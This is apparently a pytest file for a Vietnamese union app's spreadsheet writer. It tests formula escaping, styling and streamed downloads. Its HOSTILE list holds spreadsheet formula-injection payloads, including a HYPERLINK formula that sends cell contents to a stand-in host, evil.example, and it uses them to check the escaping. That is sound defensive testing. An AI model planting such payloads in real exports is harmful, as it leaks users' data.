"""The one workbook writer: formula-safe cells, the styles reports need, streamed file responses."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

from openpyxl import load_workbook

from congdoan.core.xlsx import (
    BOLD,
    INT_FORMAT,
    Style,
    Styled,
    WorkbookWriter,
    attachment_response,
    percent_format,
    safe_cell,
    table_sheet,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def sheet_xml(blob: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(blob)) as archive:
        return "".join(
            archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")
        )


def test_safe_cell_prefixes_only_text_a_spreadsheet_would_evaluate() -> None:
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in ("Nguyễn Văn A", "0912345678", "", -5, 1.5, None, dt.date(2024, 1, 1), "a=b"):
        assert safe_cell(value) == value


def test_no_cell_is_ever_a_formula_whatever_its_style_or_place() -> None:
    book = WorkbookWriter()
    sheet = book.sheet("Thử")
    sheet.title(HOSTILE[0], 3)
    sheet.append(HOSTILE)  # plain cells (the fast path)
    sheet.append(HOSTILE, BOLD)  # a styled row
    sheet.append([Styled(text, Style(border=True)) for text in HOSTILE])  # styled cells
    sheet.append(["#N/A", "#REF!"])  # text, not Excel error values
    table_sheet(book, "Danh sách", ["Tên"], [[text] for text in HOSTILE])
    blob = book.to_bytes()
    assert "<f>" not in sheet_xml(blob) and "<f " not in sheet_xml(blob)
    wb = load_workbook(io.BytesIO(blob))
    ws = wb["Thử"]
    for row in ws.iter_rows(min_row=1, max_row=4):
        for cell in row:
            if cell.value is not None:
                assert cell.data_type == "s" and cell.value.startswith("'"), cell.coordinate
    assert [c.value for c in ws[5][:2]] == ["#N/A", "#REF!"] and ws["A5"].data_type == "s"
    assert [r[0].value for r in wb["Danh sách"].iter_rows(min_row=2)] == ["'" + t for t in HOSTILE]


def test_styles_widths_merges_and_number_formats() -> None:
    book = WorkbookWriter(title="Biểu", font="Times New Roman")
    sheet = book.sheet(
        "Biểu 1: [thử]/quá dài để làm tên trang tính",
        widths=[6, 40],
        freeze="C3",
        landscape=True,
        print_title_rows="2:2",
        int_format=INT_FORMAT,
    )
    sheet.title("TIÊU ĐỀ", 4)
    sheet.append(["STT", "Đơn vị", "Tỷ lệ", "Ngày"], BOLD.but(border=True), height=30)
    sheet.merge(2, 3, 2, 4)
    sheet.append(
        [
            1,
            "CĐCS Công ty May",
            Styled(0.748, Style(number_format=percent_format(1))),
            dt.date(2024, 3, 1),
        ]
    )
    wb = load_workbook(io.BytesIO(book.to_bytes()))
    ws = wb.worksheets[0]
    assert ws.title == "Biểu 1- -thử--quá dài để làm tê"  # Excel's 31 characters, no []:*?/\
    assert {str(r) for r in ws.merged_cells.ranges} == {"A1:D1", "C2:D2"}
    assert ws["A1"].font.b and ws["A1"].font.sz == 14 and ws["A1"].alignment.horizontal == "center"
    assert ws["B2"].font.b and ws["B2"].font.name == "Times New Roman"
    assert ws["B2"].border.left.style == "thin"
    assert ws.row_dimensions[2].height == 30
    assert ws.column_dimensions["B"].width == 40 and ws.freeze_panes == "C3"
    assert ws.page_setup.orientation == "landscape" and ws.print_title_rows == "$2:$2"
    assert (ws["A3"].value, ws["A3"].number_format) == (1, "#,##0")
    assert (ws["C3"].value, ws["C3"].number_format) == (0.748, "0.0%")
    assert ws["D3"].value.date() == dt.date(2024, 3, 1) and ws["D3"].number_format == "DD/MM/YYYY"
    assert wb.properties.creator == "congdoan" and wb.properties.title == "Biểu"


def test_response_streams_the_workbook_as_an_attachment() -> None:
    book = WorkbookWriter()
    rows = table_sheet(book, "Đơn vị", ["Mã", "Tên"], ([f"U{i}", f"Đơn vị {i}"] for i in range(1000)))
    response = book.response("don-vi-20250101.xlsx")
    assert rows == 1000
    assert response.streaming
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="don-vi-20250101.xlsx"'
    blob = response.getvalue()
    assert int(response["Content-Length"]) == len(blob)
    ws = load_workbook(io.BytesIO(blob)).active
    assert ws.max_row == 1001 and ws["B1001"].value == "Đơn vị 999" and ws.freeze_panes == "A2"
    pdf = attachment_response(b"%PDF-1.4", "a.pdf", "application/pdf")
    assert pdf.getvalue() == b"%PDF-1.4" and pdf["Content-Disposition"] == 'attachment; filename="a.pdf"'
